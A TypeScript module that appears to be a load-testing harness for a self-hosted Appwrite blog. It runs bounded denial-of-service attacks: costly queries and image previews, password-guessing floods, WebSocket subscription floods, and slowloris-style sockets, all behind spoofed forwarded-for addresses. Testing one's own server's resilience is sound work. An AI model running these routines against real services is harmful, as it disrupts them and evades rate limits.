// The attacks, each from addresses of its own, until they are told to stop. Bounded: each has a
// fixed number of calls under way.
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { addressOf, CONTENT_FILES, DOCUMENTS, headersFrom, type Targets } from './blog.ts'

export type Tally = { sent: number; answers: Map<string, number> }
export type Attack = {
  name: string
  run(targets: Targets, signal: AbortSignal): Promise<Tally>
}

const HANG_UP_MS = 300
const SLOW_SOCKETS = 150
const SLOW_BYTE_MS = 500
/** An attacker who is refused asks again after this time, like a bad client in a loop. */
const AGAIN_MS = 20

/** Costly conditions, as a guest may spell them; the server decides which it answers. */
const QUESTIONS = [
  [...repeat(97, (n) => `greaterThan("like", ${-n - 1})`), 'limit(100)'],
  [...repeat(10, (n) => `greaterThan("like", ${-n - 1})`), 'limit(100)'],
  [...repeat(10, () => 'contains("userName", ["x"])'), 'limit(100)'],
  ['contains("likeId", ["nobody"])', 'limit(100)'],
  ['orderDesc("like")', 'limit(100)'],
  ['select(["$id"])', 'limit(100)'],
  ['contains("content", ["nowhere in any text"])', 'limit(1)'],
  ['contains("title", ["nowhere"])', 'limit(100)', 'offset(4900)'],
  ['notEqual("title", ["x"])', 'orderAsc("title")', 'limit(100)', 'offset(1900)'],
]

export const ATTACKS: Attack[] = [
  {
    name: 'previews 4000 × 4000',
    run: (targets, signal) =>
      many(6, 0, signal, (turn, address) => {
        const question = `width=4000&height=4000&quality=${turn % 100}&output=webp`
        return {
          url: targets.largePreviewUrl(question),
          headers: headersFrom(address),
          hangUp: turn % 3 === 0,
        }
      }),
  },
  {
    name: 'uploads of 49 MP',
    run: (targets, signal) =>
      many(targets.uploaders.length, 100, signal, (turn) => {
        const body = new FormData()
        body.append('fileId', `u${turn}`)
        body.append('file', new File([targets.wideImage], 'wide.png'))
        const headers = targets.uploaders[turn % targets.uploaders.length] ?? {}
        return { url: targets.url + CONTENT_FILES, method: 'POST', headers, body }
      }),
  },
  {
    name: 'queries',
    run: (targets, signal) =>
      many(4, 20, signal, (turn, address) => {
        const asked = QUESTIONS[turn % QUESTIONS.length] ?? []
        const question = new URLSearchParams(asked.map((one) => ['queries[]', one]))
        return { url: `${targets.url}${DOCUMENTS}?${question}`, headers: headersFrom(address) }
      }),
  },
  {
    name: 'guessed passwords',
    run: (targets, signal) =>
      many(12, 40, signal, (turn, address) => ({
        url: `${targets.url}/v1/account/sessions/email`,
        method: 'POST',
        headers: { ...headersFrom(address), 'content-type': 'application/json' },
        body: JSON.stringify({ email: `guess${turn}@example.test`, password: 'guessed again' }),
      })),
  },
  {
    name: 'the longest post',
    run: (targets, signal) =>
      many(3, 60, signal, (_turn, address) => ({
        url: targets.longPageUrl,
        headers: { ...headersFrom(address), 'accept-encoding': 'br' },
      })),
  },
  {
    name: 'codes, flags, names',
    run: (targets, signal) =>
      many(6, 500, signal, (turn, address) => ({
        url: targets.url + (DRAWN[turn % DRAWN.length] ?? '') + turn,
        headers: { ...headersFrom(address), 'x-appwrite-locale': LANGUAGES[turn % 20] ?? '' },
      })),
  },
  { name: 'realtime', run: attackRealtime },
  { name: 'slow clients', run: attackSlowly },
]

/** Each ends with what makes it another one. */
const DRAWN = [
  `/v1/avatars/qr?size=1&text=${'%F0%9F%92%A1'.repeat(250)}`,
  `/v1/avatars/qr?size=1000&text=${'a'.repeat(500)}`,
  '/v1/avatars/flags/bo?width=2000&height=',
  '/v1/locale/countries?',
]
const LANGUAGES = 'de fr it es pt nl sv da nb fi pl cs hu ro bg el tr uk he ja'.split(' ')

type Asked = RequestInit & { url: string; headers: Record<string, string>; hangUp?: boolean }

/** `atOnce` clients, each with an address of its own from `first` on, ask again and again. */
async function many(
  atOnce: number,
  first: number,
  signal: AbortSignal,
  ask: (turn: number, address: string) => Asked,
): Promise<Tally> {
  const tally: Tally = { sent: 0, answers: new Map() }
  const attack = async (address: string) => {
    while (!signal.aborted) {
      const { url, hangUp, ...asked } = ask(tally.sent++, address)
      const until = hangUp ? AbortSignal.any([signal, AbortSignal.timeout(HANG_UP_MS)]) : signal
      const answer = await fetch(url, { ...asked, signal: until }).then(
        async ({ status, body }) => {
          await body?.pipeTo(new WritableStream()).catch(() => {})
          return String(status)
        },
        () => 'hung up',
      )
      tally.answers.set(answer, (tally.answers.get(answer) ?? 0) + 1)
      if (!['200', '201'].includes(answer)) await delay(AGAIN_MS)
    }
  }
  await Promise.all(repeat(atOnce, (at) => attack(addressOf(first + at))))
  return tally
}

const REALTIME_SOCKETS = 60
const REALTIME_ADDRESSES = 20

/**
 * Connections that ask for as much as they may, ping without end, and of which some read nothing.
 */
async function attackRealtime({ url }: Targets, signal: AbortSignal): Promise<Tally> {
  const tally: Tally = { sent: 0, answers: new Map() }
  const channels = repeat(90, (at) => `${'c'.repeat(240)}${at}`)
  const values = repeat(40, (at) => `${'v'.repeat(80)}${at}`)
  const queries = [JSON.stringify({ method: 'contains', attribute: 'content', values })]
  const subscribe = JSON.stringify({
    type: 'subscribe',
    data: [{ subscriptionId: 's', channels: [...channels, 'documents'], queries }],
  })
  const attack = async (at: number) => {
    while (!signal.aborted) {
      tally.sent++
      const headers = headersFrom(addressOf(600 + (at % REALTIME_ADDRESSES)))
      const socket = new WebSocket(`${url.replace('http', 'ws')}/v1/realtime?project=blog`, {
        headers,
      })
      const { promise, resolve } = Promise.withResolvers<string>()
      socket.on('error', () => {})
      socket.on('unexpected-response', (request, { statusCode }) => {
        request.destroy()
        resolve(String(statusCode))
      })
      socket.on('close', (code) => resolve(String(code)))
      socket.on('open', () => {
        if (at % 4 === 0) socket.pause()
        for (let sent = 0; sent < 8; sent++) socket.send(subscribe)
      })
      const pinging = setInterval(() => socket.readyState === WebSocket.OPEN && socket.ping(), 5)
      const stop = () => socket.terminate()
      signal.addEventListener('abort', stop)
      const answer = await promise
      signal.removeEventListener('abort', stop)
      clearInterval(pinging)
      socket.terminate()
      tally.answers.set(answer, (tally.answers.get(answer) ?? 0) + 1)
      await delay(AGAIN_MS)
    }
  }
  await Promise.all(repeat(REALTIME_SOCKETS, attack))
  return tally
}

/** Sockets that send a request letter by letter, and ones that do not read their answer. */
async function attackSlowly(targets: Targets, signal: AbortSignal): Promise<Tally> {
  const tally: Tally = { sent: 0, answers: new Map() }
  const { hostname, port, pathname } = new URL(targets.longPageUrl)
  const host = hostname === 'localhost' ? '127.0.0.1' : hostname
  await Promise.all(
    repeat(SLOW_SOCKETS, async (at) => {
      while (!signal.aborted) {
        tally.sent++
        const socket = connect({ host, port: Number(port) })
        const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()))
        socket.on('error', () => {})
        const isReader = at % 3 === 0
        const start = isReader
          ? `GET ${pathname} HTTP/1.1\r\nhost: ${host}\r\nx-forwarded-for: ${addressOf(300 + at)}\r\n\r\n`
          : `POST /v1/account HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 4000\r\n\r\n`
        socket.write(start)
        if (isReader) socket.pause()
        const dripping = setInterval(() => isReader || socket.write(' '), SLOW_BYTE_MS)
        const stop = () => socket.destroy()
        signal.addEventListener('abort', stop)
        await ended
        signal.removeEventListener('abort', stop)
        clearInterval(dripping)
        if (!signal.aborted) await delay(AGAIN_MS)
      }
    }),
  )
  return tally
}

function repeat<Made>(times: number, make: (index: number) => Made): Made[] {
  return Array.from({ length: times }, (_, index) => make(index))
}
